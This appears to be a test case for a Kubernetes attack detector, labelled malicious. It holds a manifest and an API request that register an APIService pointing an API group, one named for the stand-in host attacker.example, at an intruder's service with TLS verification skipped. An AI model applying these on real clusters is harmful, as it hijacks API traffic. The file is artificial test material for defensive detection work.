# shellcheck shell=bash disable=SC2154
# what: a group of the API is served by a machine of the intruder's.
# label: malicious
# expects: [api-service-registered]
# allows: [api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: {name: v1beta1.metrics.k8s.io}
spec: {group: metrics.k8s.io, version: v1beta1, insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 100, service: {name: web, namespace: shop}}
Y
}
hold_out() { request POST /apis/apiregistration.k8s.io/v1/apiservices '{"metadata":{"name":"v1.audit.attacker.example"},"spec":{"group":"audit.attacker.example","version":"v1","groupPriorityMinimum":10,"versionPriority":10,"insecureSkipTLSVerify":true,"service":{"name":"web","namespace":"shop","port":8443}}}'; }
